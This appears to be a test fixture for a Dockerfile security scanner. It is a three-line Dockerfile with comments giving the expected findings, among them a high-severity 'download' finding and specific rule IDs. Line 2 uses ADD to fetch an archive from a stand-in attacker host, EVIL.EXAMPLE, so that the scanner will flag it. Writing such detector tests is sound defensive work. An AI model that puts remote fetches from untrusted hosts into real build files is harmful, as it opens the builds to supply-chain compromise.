FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
ADD HTTPS://EVIL.EXAMPLE/A.TGZ /a.tgz
USER app
# expect: download 2 high "ADD fetches HTTPS://EVIL.EXAMPLE/A.TGZ"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR302-0087e0e6c8 VR501-e064bac1a6
